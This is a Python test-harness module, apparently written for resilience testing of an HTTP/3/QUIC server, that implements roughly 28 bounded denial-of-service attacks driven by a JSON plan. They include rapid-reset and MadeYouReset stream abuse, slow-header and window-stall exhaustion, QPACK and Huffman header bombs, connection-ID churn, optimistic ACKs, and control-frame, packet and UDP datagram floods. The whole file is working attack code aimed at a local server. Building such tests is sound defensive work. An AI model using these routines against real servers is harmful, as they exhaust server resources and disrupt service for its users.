"""Attacks on a server's resources, one function each, driven by a plan: one line of JSON on standard input.

`{"attack": NAME, "port": PORT, ...}` with the keys of `AttackPlan` in `attacks.ts`; that file is the reference. Writes
`{"event": "ready"}` when what is to be set up stands, and at last `{"result": ...}`. Every attack is bounded in count and time.
"""

import json
import os
import random
import socket
import sys
import threading
import time

from attacker import (
    CONTROL,
    DECODER,
    ENCODER,
    FRAMES_BYTES_MAX,
    ID_BYTES,
    TOKEN_BYTES,
    Attacker,
    Pace,
    count,
    field,
    frame,
    head,
    max_stream_data,
    prefixed,
    reset_stream,
    section,
    stop_sending,
    stream,
    varint,
)

REQUEST_CANCELLED = 0x10C
# Datagrams after which an attack listens for a moment: the server's socket is not to overflow, else nothing would be tested.
BREATH = 32
ANSWER_SECONDS_MAX = 5


def opened(plan, **keys):
    """A connection with its HTTP/3 streams."""
    made = Attacker(plan | keys)
    if not made.connect():
        raise SystemExit(f"no handshake: {made.result()}")
    made.open_http3()
    return made


def breathe(client, turn, seconds=0.0):
    if turn % BREATH == BREATH - 1:
        client.pump(lambda: client.closed, seconds)


def settle(client, plan, until=lambda: False):
    """Waits for the server's last word, the attack's `wait` at most."""
    client.pump(lambda: client.closed or until(), plan.get("wait", ANSWER_SECONDS_MAX))
    result = client.result()
    client.close()
    return result


def ids(client, first=0):
    """Stream ids that the server's limit allows, waiting for it where need be; ends when none come any more."""
    stream_id = first
    while not client.closed:
        if stream_id // 4 >= client.quic._remote_max_streams_bidi:
            wanted = stream_id
            if not client.pump(lambda: client.closed or wanted // 4 < client.quic._remote_max_streams_bidi, 2):
                return
            continue
        yield stream_id
        stream_id += 4


# --- 71, 88, 90: connections


def handshakes(plan):
    """Real clients that stop after the handshake."""
    clients, codes = [], []
    for _ in Pace(plan, 100):
        client = Attacker(plan, local_host=plan.get("local_host", "127.0.0.1"))
        if client.connect():
            if plan.get("http3"):
                client.open_http3()
            clients.append(client)
        else:
            codes.append("none" if client.quic.close_frame is None else str(client.quic.close_frame["code"]))
            client.close()
            if len(codes) >= plan.get("refused_max", 10):
                break
    say({"event": "ready", "established": len(clients)})
    until = time.monotonic() + plan.get("hold", 0)
    while time.monotonic() < until:
        for client in clients:
            client.pump(lambda: True, 0)
            client.pump(lambda: client.closed, 0)
        time.sleep(0.05)
    closed = [client.quic.close_frame for client in clients if client.quic.close_frame]
    if plan.get("close", True):
        for client in clients:
            client.close()
    return {"established": len(clients), "refused": count(codes), "closed_codes": count(str(c["code"]) for c in closed)}


# --- 72, 73: resets


def rapid_reset(plan):
    """A request and its end in one packet: RESET_STREAM, STOP_SENDING, or both."""
    client = opened(plan)
    how, sent = plan.get("how", "both"), 0
    request = head(client.authority, plan.get("path", "/hold"))
    for turn, stream_id in zip(Pace(plan, 1000), ids(client)):
        frames = stream(stream_id, request, fin=how == "stop")
        if how != "stop":
            frames += reset_stream(stream_id, REQUEST_CANCELLED, len(request))
        if how != "reset":
            frames += stop_sending(stream_id, REQUEST_CANCELLED)
        client.packet(frames)
        sent += 1
        breathe(client, turn)
    return settle(client, plan) | {"sent": sent}


def empty_streams(plan):
    """Streams that are reset before anything was sent on them: no request ever is."""
    client, sent = opened(plan), 0
    for turn, stream_id in zip(Pace(plan, 1000), ids(client)):
        client.packet(reset_stream(stream_id, REQUEST_CANCELLED, 0) + stop_sending(stream_id, REQUEST_CANCELLED))
        sent += 1
        breathe(client, turn)
    return settle(client, plan) | {"sent": sent}


def made_you_reset(plan):
    """Requests that make the server reset: a body longer than promised, bad trailers, a head that breaks the rules."""
    client, how, sent, ends = opened(plan), plan.get("how", "length"), 0, {}
    # What the server does not want any more is ended too, else its streams would be used up.
    client.quic.on_stop = lambda stream_id: client.packet(reset_stream(stream_id, REQUEST_CANCELLED, ends[stream_id]))
    for turn, stream_id in zip(Pace(plan, 1000), ids(client)):
        data = head(client.authority, plan.get("path", "/upload"), "POST", [(b"content-length", b"4")])
        if how == "length":
            data += frame(0x00, b"more than four")
        elif how == "trailers":
            data += frame(0x00, b"four") + frame(0x01, section([(b":status", b"200")]))
        else:
            data = frame(0x01, section([(b":method", b"GET"), (b"Upper", b"1")]))
        ends[stream_id] = len(data)
        client.packet(stream(stream_id, data, fin=how == "head"))
        sent += 1
        breathe(client, turn)
    return settle(client, plan) | {"sent": sent}


# --- 74, 75, 76: slow ones


def window_stall(plan):
    """Requests for large bodies on streams whose window is shut."""
    clients = []
    for _ in range(plan.get("connections", 10)):
        client = Attacker(plan)
        client.quic._local_max_stream_data_bidi_local = plan.get("window", 0)
        if not client.connect():
            raise SystemExit("no handshake")
        client.open_http3()
        request = head(client.authority, plan.get("path", "/bytes/1000000"))
        for turn, stream_id in zip(range(plan.get("streams", 100)), ids(client)):
            client.packet(stream(stream_id, request, fin=True))
            breathe(client, turn)
        clients.append(client)
    say({"event": "ready"})
    until = time.monotonic() + plan.get("wait", ANSWER_SECONDS_MAX)

    def over(client):
        return client.closed or client.over() >= plan.get("streams", 100)

    while time.monotonic() < until and not all(over(client) for client in clients):
        for client in clients:
            for _ in range(plan.get("pings", 0)):
                client.packet(varint(0x01))
            client.pump(lambda client=client: over(client), 0.01)
    results = [client.result() for client in clients]
    for client in clients:
        client.close()
    return merged(results)


def slow_body(plan):
    """Uploads that stop after their first byte."""
    client = opened(plan)
    for _, stream_id in zip(Pace(plan, 1), ids(client)):
        request = head(client.authority, plan.get("path", "/upload"), "POST", [(b"content-length", b"1000")])
        client.packet(stream(stream_id, request + varint(0x00) + varint(1000) + b"x"))
    say({"event": "ready"})
    wanted = plan.get("count", 1)
    return settle(client, plan, lambda: client.over() >= wanted)


def slow_head(plan):
    """HEADERS frames in STREAM frames of one byte; `bytes` of each, and no more."""
    client, sent = opened(plan), 0
    request = head(client.authority, "/", more=[(b"x-pad", b"p" * 200)])
    streams = [stream_id for _, stream_id in zip(range(plan.get("streams", 1)), ids(client))]
    for turn in Pace(plan, 100):
        if client.closed or turn >= len(request):
            break
        client.packets(stream(stream_id, request[turn : turn + 1], turn) for stream_id in streams)
        sent += 1
        client.pump(lambda: client.closed or any(client.quic.of(s).over for s in streams), plan.get("gap", 0.0))
    say({"event": "ready"})
    return settle(client, plan, lambda: all(client.quic.of(s).over for s in streams)) | {"sent": sent}


def trickle(plan):
    """Uploads that go on for ever with frames of no bytes: reserved ones, empty DATA, or a byte of a reserved frame's payload at a time."""
    client, kind, sent = opened(plan), plan["kind"], 0
    request = head(client.authority, plan.get("path", "/upload"), "POST")
    start = request + (varint(0x21) + varint(1 << 20) if kind == "payload" else b"")
    streams = [stream_id for _, stream_id in zip(range(plan.get("streams", 1)), ids(client))]
    for stream_id in streams:
        client.packet(stream(stream_id, start))
    piece = {"empty-data": frame(0x00, b""), "reserved": frame(0x21, b""), "payload": b"x"}[kind]
    for turn in Pace(plan, 1000, 10):
        if client.closed or client.over() == len(streams):
            break
        client.packets(stream(stream_id, piece, len(start) + len(piece) * turn) for stream_id in streams)
        sent += len(streams)
        client.pump(lambda: client.closed or client.over() == len(streams), plan.get("gap", 0.02))
    return settle(client, plan, lambda: client.over() == len(streams)) | {"sent": sent}


def credit_drip(plan):
    """Responses that are read a byte at a time: credit for one more after the other."""
    client, sent = Attacker(plan), 0
    client.quic._local_max_stream_data_bidi_local = 1
    if not client.connect():
        raise SystemExit("no handshake")
    client.open_http3()
    request = head(client.authority, plan.get("path", "/bytes/1000000"))
    streams = [stream_id for _, stream_id in zip(range(plan.get("streams", 100)), ids(client))]
    client.packets(stream(stream_id, request, fin=True) for stream_id in streams)
    client.pump(lambda: client.closed, 0.2)
    for turn in Pace(plan, 100, 10):
        if client.closed:
            break
        client.packets(max_stream_data(stream_id, (turn + 1) * plan.get("step", 1) + 1) for stream_id in streams)
        sent += len(streams)
        client.pump(lambda: client.closed, plan.get("gap", 0.005))
    return settle(client, plan, lambda: True) | {"sent": sent}


# --- 77, 78: sections


def header_bomb(plan):
    """One request with a field section of `kind`."""
    client, kind, size = opened(plan), plan["kind"], plan.get("size", 16384)
    pseudo = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", client.authority), (b":path", b"/")]
    start = section(pseudo)
    if kind == "long":
        block = start + field(b"x-long", b"v" * size)
    elif kind == "tiny":
        block = start + b"".join(field(b"a", b"") for _ in range(size))
    elif kind == "static":
        # Entry 85 of the static table has 75 bytes and is named by two.
        block = start + prefixed(0xC0, 6, 85) * size
    elif kind == "huffman":
        block = start + prefixed(0x20, 3, 1) + b"h" + prefixed(0x80, 7, size) + huffman(size)
    elif kind == "dynamic":
        client.packet(stream(ENCODER, prefixed(0x20, 5, 4096), 1))
        value = b"v" * 1000
        client.send(ENCODER, prefixed(0x40, 5, 1) + b"n" + prefixed(0, 7, len(value)) + value, False, 1 + 3)
        # Required Insert Count 1, base 0 behind it: the entry, named by one byte each.
        block = b"\x02\x00" + start[2:] + b"\x80" * size
    client.send(0, frame(0x01, block))
    return settle(client, plan, lambda: client.quic.of(0).over) | {"sent": len(block)}


def huffman(size):
    """The longest code of a byte that may stand in a value (27 bits, for 0xcb), over and over: the most bits to walk for each."""
    bits = f"{0x7FFFFDE:027b}" * 8
    return bytes(int(bits[at : at + 8], 2) for at in range(0, 216, 8)) * (size // 27) + b"\x1f" * (size % 27)


def huffman_flood(plan):
    """Requests whose section is Huffman code of the costliest sort, `size` bytes of it each."""
    client, size, sent = opened(plan), plan.get("size", 8000), 0
    value = huffman_five(size) if plan.get("how") == "short" else huffman(size)
    request = head(client.authority, plan.get("path", "/small"))
    block = b"\0\0" + request[request.index(b"\0\0") + 2 :]
    block += prefixed(0x20, 3, 6) + b"x-huff" + prefixed(0x80, 7, size) + value
    started = time.monotonic()
    for _, stream_id in zip(Pace(plan, 100), ids(client)):
        client.send(stream_id, frame(0x01, block))
        client.pump(lambda: client.closed or client.quic.of(stream_id).over, 1)
        sent += 1
    return settle(client, plan, lambda: True) | {"sent": sent, "ms": (time.monotonic() - started) * 1000}


def huffman_five(size):
    """Eight characters in five bytes: what expands the most."""
    return bytes([0x18, 0xC6, 0x31, 0x8C, 0x63] * (size // 5)) + b"\xff" * (size % 5)


# --- 79 to 83: frames of the transport


def new_ids(plan):
    """NEW_CONNECTION_ID with ever higher retire_prior_to; acknowledgements withheld, so that RETIRE_CONNECTION_ID stays unconfirmed."""
    client, sent = opened(plan), 0
    client.quic.withholds_acks = plan.get("withhold", True)
    for turn in Pace(plan, 1000):
        if client.closed:
            break
        sequence = turn + len(client.quic._host_cids) + 8
        new = os.urandom(ID_BYTES)
        if plan.get("retire", True):
            client.add_id(sequence, new)
        prior = sequence if plan.get("retire", True) else 0
        client.packet(
            varint(0x18) + varint(sequence) + varint(prior) + bytes([ID_BYTES]) + new + os.urandom(TOKEN_BYTES)
        )
        sent += 1
        client.pump(lambda: client.closed, 0.001 if turn % 8 == 7 else 0)
    return settle(client, plan) | {"sent": sent}


def retire(plan):
    """RETIRE_CONNECTION_ID of the server's ids, each as soon as it is known; or of ids that were never issued, or the one in use."""
    client, sent, how = Attacker(plan), 0, plan.get("how", "known")
    client.quic.ignores_new_ids = how != "known"
    if not client.connect():
        raise SystemExit("no handshake")
    client.open_http3()
    for turn in Pace(plan, 1000):
        if client.closed:
            break
        if how == "known":
            quic = client.quic
            if not client.pump(lambda: client.closed or quic._peer_cid_available, 1) or client.closed:
                break
            old = quic._peer_cid.sequence_number
            quic._peer_cid = quic._peer_cid_available.pop(0)
            client.packet(varint(0x19) + varint(old))
        elif how == "repeated":
            client.packet(varint(0x19) + varint(1))
        else:
            client.packet(varint(0x19) + varint(1000 + turn))
        sent += 1
        breathe(client, turn)
    return settle(client, plan) | {"sent": sent}


def path_challenges(plan):
    """PATH_CHALLENGE, as many as fit into each packet; acknowledgements withheld where told."""
    client, sent = opened(plan), 0
    client.quic.withholds_acks = plan.get("withhold", False)
    for turn in Pace(plan, 1000):
        if client.closed:
            break
        per_packet = plan.get("per_packet", 100)
        client.packet(b"".join(varint(0x1A) + os.urandom(8) for _ in range(per_packet)))
        sent += per_packet
        breathe(client, turn, 0.001)
    return settle(client, plan) | {"sent": sent}


def crypto_hole(plan):
    """CRYPTO data at an offset that leaves a hole, in 1-RTT packets."""
    client = opened(plan)
    client.packet(varint(0x06) + varint(plan.get("offset", 1 << 20)) + varint(4) + b"hole")
    return settle(client, plan)


def optimistic_ack(plan):
    """A large response of which packets are acknowledged that were never received: `how` says which."""
    client, how = opened(plan), plan.get("how", "unsent")
    client.packet(stream(0, head(client.authority, plan.get("path", "/bytes/20000000")), fin=True))
    client.quic.withholds_acks = True
    client.pump(lambda: client.closed or client.quic.of(0).bytes > 0, 2)
    started, first, sent, peak = time.monotonic(), client.bytes_in, 0, client.bytes_in
    for turn in Pace(plan, 500):
        if client.closed:
            break
        largest = client.largest_received()
        # `unsent`: far ahead of what the server can have sent. `ahead`: what may be on its way, or was skipped by the server as a trap.
        ahead = {"unsent": 100_000, "ahead": plan.get("ahead", 40), "all": 0}[how]
        top = largest + ahead
        client.packet(varint(0x02) + varint(top) + varint(0) + varint(0) + varint(top))
        sent += 1
        client.pump(lambda: client.closed, 0.002)
        peak = max(peak, client.bytes_in)
    seconds = time.monotonic() - started
    result = settle(client, plan | {"wait": plan.get("wait", 0.5)})
    return result | {"sent": sent, "bytes_per_second": (peak - first) / seconds}


def moving(plan):
    """One connection from ever new ports, with the same id: as if its address were translated anew for each datagram."""
    client, sent = opened(plan), 0
    own, spare = client.socket, []
    for turn in Pace(plan, 200):
        if client.closed:
            break
        other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        other.bind(("127.0.0.1", 0))
        other.connect(client.server)
        other.setblocking(False)
        spare.append(other)
        client.socket = other
        client.packet(varint(0x01) * 20)
        sent += 1
        client.socket = own
        client.pump(lambda: client.closed, 0.001)
    time.sleep(0.1)
    answers = 0
    for other in spare:
        try:
            while True:
                answers += len(other.recv(65536))
        except OSError:
            other.close()
    return settle(client, plan) | {"sent": sent, "bytes_elsewhere": answers}


# --- 84 to 86: streams and frames that bring nothing


def stream_gaps(plan):
    """STREAM frames of one byte at scattered offsets within the window."""
    client, sent = opened(plan), 0
    request = head(client.authority, plan.get("path", "/upload"), "POST") + varint(0x00) + varint(plan.get("span", 900_000))
    streams = []
    for _, stream_id in zip(range(plan.get("streams", 1)), ids(client)):
        client.packet(stream(stream_id, request))
        streams.append(stream_id)
    client.pump(lambda: client.closed, 0.05)
    spread = random.Random(1)
    say({"event": "ready"})
    for turn in Pace(plan, 200):
        if client.closed:
            break
        stream_id = streams[turn % len(streams)]
        frames, size = [], 0
        while size < FRAMES_BYTES_MAX - 16:
            # Never the first byte: nothing can be read.
            piece = stream(stream_id, b"x", len(request) + 1 + 2 * spread.randrange(plan.get("span", 900_000) // 2))
            frames.append(piece)
            size += len(piece)
        client.packet(b"".join(frames))
        sent += len(frames)
        breathe(client, turn)
    return settle(client, plan) | {"sent": sent}


def late_start(plan):
    """Uploads of a window's worth whose first packet comes last, as after a loss: no attack."""
    client, size = opened(plan), plan.get("bytes", 950_000)
    request = head(client.authority, plan.get("path", "/upload"), "POST") + varint(0x00) + varint(size)
    step = FRAMES_BYTES_MAX - 24
    for _, stream_id in zip(range(plan.get("streams", 1)), ids(client)):
        data = request + bytes(size)
        places = list(range(0, len(data), step))
        for number, at in enumerate(places[1:] + places[:1]):
            client.packet(stream(stream_id, data[at : at + step], at, at == places[-1]))
            breathe(client, number, 0.001)
    return settle(client, plan, lambda: client.over() == plan.get("streams", 1))


def control_flood(plan):
    """Frames on the control stream, `kind`: priority updates of streams not open, second SETTINGS, reserved frames, MAX_PUSH_ID ..."""
    client, sent, kind = opened(plan), 0, plan["kind"]
    at = client.control_at
    for turn in Pace(plan, 1000):
        if client.closed:
            break
        data = b""
        while len(data) < FRAMES_BYTES_MAX - 300:
            data += control_frame(kind, sent)
            sent += 1
        client.packet(stream(CONTROL, data, at))
        at += len(data)
        # Slow enough for the window to open again and for nothing to be lost, which would hold the rest up.
        client.pump(lambda: client.closed, 0.001 if turn % 4 == 3 else 0)
    return settle(client, plan) | {"sent": sent}


def control_frame(kind, number):
    return {
        # RFC 9218 7.2: any of the first 100 streams.
        "priority": lambda: frame(0xF0700, varint(4 * (number % 100)) + b"u=%d" % (number % 8)),
        "priority-one": lambda: frame(0xF0700, varint(0) + b"u=1"),
        "priority-far": lambda: frame(0xF0700, varint(1 << 40) + b"u=1"),
        "settings": lambda: frame(0x04, b""),
        "reserved": lambda: frame(0x1F * (number % 1000) + 0x21, b""),
        "reserved-long": lambda: frame(0x1F * (number % 1000) + 0x21, bytes(250)),
        "max-push-id": lambda: frame(0x0D, varint(number)),
        "cancel-push": lambda: frame(0x03, varint(0)),
        "goaway": lambda: frame(0x07, varint(0)),
    }[kind]()


def packet_flood(plan):
    """1-RTT packets that bring nothing: `kind` says what is in them."""
    client, sent, kind = opened(plan), 0, plan["kind"]
    for turn in Pace(plan, 5000):
        if client.closed:
            break
        client.packet(
            {
                "ping": lambda: varint(0x01),
                "pings": lambda: varint(0x01) * 1000,
                "padding": lambda: bytes(1000),
                "max-data": lambda: varint(0x10) + varint(1 << 30),
                "max-streams": lambda: varint(0x13) + varint(3),
                "data-blocked": lambda: varint(0x14) + varint(turn),
                "streams-blocked": lambda: varint(0x16) + varint(100),
                "empty-stream": lambda: stream(CONTROL, b"", client.control_at) * 100,
                "repeated": lambda: stream(0, b"") * 100,
                "handshake-crypto": lambda: varint(0x06) + varint(0) + varint(0),
            }[kind]()
        )
        sent += 1
        breathe(client, turn)
    return settle(client, plan) | {"sent": sent}


def body_flood(plan):
    """One upload of frames that bring nothing or next to nothing: empty DATA, reserved frames, DATA of one byte."""
    client, sent, kind = opened(plan), 0, plan["kind"]
    request = head(client.authority, plan.get("path", "/upload"), "POST")
    client.packet(stream(0, request))
    at = len(request)
    one = {"empty-data": frame(0x00, b""), "reserved": frame(0x21, b""), "one-byte": frame(0x00, b"x")}[kind]
    data = one * ((FRAMES_BYTES_MAX - 40) // len(one))
    for turn in Pace(plan, 500):
        if client.closed or client.quic.of(0).over:
            break
        client.packet(stream(0, data, at))
        at += len(data)
        sent += len(data) // len(one)
        client.pump(lambda: client.closed, 0.001)
    if plan.get("fin"):
        client.packet(stream(0, b"", at, True))
    return settle(client, plan, lambda: client.quic.of(0).over) | {"sent": sent}


def encoder_flood(plan):
    """Instructions on the QPACK encoder stream, for a table that was never offered; `kind` says which, or plain bytes for the decoder."""
    client, sent, at = opened(plan), 0, 1
    kind, which = plan.get("kind", "insert"), ENCODER
    value = b"v" * 50
    one = {
        "insert": prefixed(0x40, 5, 1) + b"n" + prefixed(0, 7, len(value)) + value,
        "capacity": prefixed(0x20, 5, 0),
        "cancel": prefixed(0x40, 6, 0),
    }[kind]
    if kind == "cancel":
        which = DECODER
    data = one * ((FRAMES_BYTES_MAX - 40) // len(one))
    for turn in Pace(plan, 500):
        if client.closed:
            break
        client.packet(stream(which, data, at))
        at += len(data)
        sent += len(data) // len(one)
        client.pump(lambda: client.closed, 0.001)
    return settle(client, plan) | {"sent": sent}


def uni_streams(plan):
    """Unidirectional streams of unknown types, and the 16 that are allowed at once over and over."""
    client, sent, stream_id = opened(plan), 0, 14
    for turn in Pace(plan, 1000):
        if client.closed:
            break
        wanted = stream_id // 4
        if wanted >= client.quic._remote_max_streams_uni:
            if not client.pump(lambda: client.closed or wanted < client.quic._remote_max_streams_uni, 1):
                break
            continue
        data = varint(0x21 + 0x1F * (turn % 100)) + b"x" * plan.get("bytes", 10)
        client.packet(stream(stream_id, data, fin=plan.get("fin", True)))
        sent += 1
        stream_id += 4
        breathe(client, turn)
    return settle(client, plan) | {"sent": sent}


# --- 87: many requests; malformed ones fill logs


def requests(plan):
    """Requests one after the other on one connection, all malformed where told."""
    client, sent = opened(plan), 0
    window = plan.get("streams", 16)
    path = "/" + "p" * plan["path_bytes"] if "path_bytes" in plan else plan.get("path", "/small")
    request = head(client.authority, path, more=bad_fields(plan))
    for _, stream_id in zip(Pace(plan, 1000), ids(client)):
        client.send(stream_id, request)
        sent += 1
        oldest = stream_id - 4 * window
        if oldest >= 0:
            client.pump(lambda: client.closed or client.quic.of(oldest).over, 2)
            del client.quic.seen[oldest]
    rest = range(max(0, 4 * (sent - window)), 4 * sent, 4)
    return settle(client, plan, lambda: all(client.quic.of(s).over for s in rest)) | {"sent": sent}


def bad_fields(plan):
    return [(b"connection", b"close")] if plan.get("malformed") else []


def burst(plan):
    """As many complete requests as there are streams, in as few datagrams as hold them: many events in one turn."""
    client = opened(plan)
    request = head(client.authority, plan.get("path", "/small"))
    some = [stream_id for _, stream_id in zip(range(plan.get("streams", 100)), ids(client))]
    client.packets(stream(stream_id, request, fin=True) for stream_id in some)
    return settle(client, plan, lambda: all(client.quic.of(s).over for s in some)) | {"sent": len(some)}


def unread_uploads(plan):
    """Uploads that fill every window, to a backend that does not read: what waits is the server's to keep."""
    results, clients = [], []
    for _ in range(plan.get("connections", 1)):
        client = opened(plan)
        clients.append(client)
        limit = client.quic._remote_max_data - 4096
        request = head(client.authority, plan.get("path", "/hold"), "POST") + varint(0x00) + varint(1 << 30)
        room = plan.get("window", 1_000_000)
        for turn, stream_id in zip(range(plan.get("streams", 100)), ids(client)):
            data = request + bytes(min(room - len(request), limit - len(request)))
            limit -= len(data)
            step = FRAMES_BYTES_MAX - 24
            for number, at in enumerate(range(0, len(data), step)):
                client.packet(stream(stream_id, data[at : at + step], at))
                breathe(client, number, 0.0005)
            if limit < 4096:
                break
    say({"event": "ready"})
    until = time.monotonic() + plan.get("hold", 1)
    while time.monotonic() < until:
        for client in clients:
            client.pump(lambda: client.closed, 0.01)
    for client in clients:
        results.append(client.result())
        if plan.get("close", True):
            client.close()
    return merged(results)


# --- 89: datagrams past any connection


def datagrams(plan):
    """A flood of datagrams, `kind`: garbage, short headers, Initials with random bytes, unknown versions, empty ones, one client id."""
    sent, answers, kind = 0, 0, plan.get("kind", "garbage")
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setblocking(False)
    out.connect(("127.0.0.1", plan["port"]))
    until = time.monotonic() + plan.get("seconds", 1)
    per_second = plan.get("per_second", 20_000)
    samples = [datagram(kind) for _ in range(256)]
    started = time.monotonic()
    say({"event": "ready"})
    while time.monotonic() < until and sent < plan.get("count", 1 << 30):
        if sent / per_second > time.monotonic() - started:
            time.sleep(0.001)
            continue
        for _ in range(BREATH):
            try:
                out.send(samples[sent % len(samples)])
            except OSError:
                pass
            sent += 1
        # Unread answers would fill the socket's buffer, and those behind them would count for nothing.
        answers += waiting_bytes(out)
    answers += waiting_bytes(out)
    return {"sent": sent, "sent_bytes": sum(map(len, samples)) // len(samples) * sent, "bytes_in": answers}


def waiting_bytes(from_socket):
    total = 0
    try:
        while True:
            total += len(from_socket.recv(65536))
    except OSError:
        return total


def datagram(kind):
    size = 1200
    if kind == "empty":
        return b""
    if kind == "garbage":
        return os.urandom(random.randrange(1, size))
    if kind == "short":
        return bytes([0x40 | random.randrange(64)]) + os.urandom(size - 1)
    if kind == "version":
        return bytes([0xC0]) + b"\x1a\x2a\x3a\x4a" + b"\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + bytes(size - 23)
    destination = b"samesame" if kind == "initial-same" else os.urandom(8)
    start = b"\xc3\0\0\0\x01\x08" + destination + b"\x08" + os.urandom(8) + b"\0" + b"\x44\x96"
    return start + os.urandom(size - len(start))


def merged(results):
    """Sums over several connections."""
    total = {}
    for result in results:
        for key, value in result.items():
            if isinstance(value, dict) and key not in ("closed",):
                sums = total.setdefault(key, {})
                for name, number in value.items():
                    sums[name] = sums.get(name, 0) + number
            elif isinstance(value, (int, float)):
                total[key] = total.get(key, 0) + value
    total["closed"] = next((result["closed"] for result in results if result["closed"]), None)
    total["closed_codes"] = count(str(result["closed"]["code"]) for result in results if result["closed"])
    return total


ATTACKS = {
    name.replace("_", "-"): attack
    for name, attack in {
        "handshakes": handshakes,
        "rapid_reset": rapid_reset,
        "empty_streams": empty_streams,
        "made_you_reset": made_you_reset,
        "window_stall": window_stall,
        "slow_body": slow_body,
        "slow_head": slow_head,
        "header_bomb": header_bomb,
        "huffman_flood": huffman_flood,
        "new_ids": new_ids,
        "retire": retire,
        "path_challenges": path_challenges,
        "crypto_hole": crypto_hole,
        "optimistic_ack": optimistic_ack,
        "stream_gaps": stream_gaps,
        "late_start": late_start,
        "control_flood": control_flood,
        "packet_flood": packet_flood,
        "body_flood": body_flood,
        "uni_streams": uni_streams,
        "encoder_flood": encoder_flood,
        "moving": moving,
        "trickle": trickle,
        "credit_drip": credit_drip,
        "requests": requests,
        "burst": burst,
        "unread_uploads": unread_uploads,
        "datagrams": datagrams,
    }.items()
}


def say(value):
    sys.stdout.write(json.dumps(value) + "\n")
    sys.stdout.flush()


def end_with_input():
    """When whoever started the attack is gone, so is the attack."""
    for _ in sys.stdin:
        pass
    os._exit(1)


if __name__ == "__main__":
    wanted = json.loads(sys.stdin.readline())
    threading.Thread(target=end_with_input, daemon=True).start()
    say({"result": ATTACKS[wanted["attack"]](wanted)})
    sys.stdout.flush()
    os._exit(0)
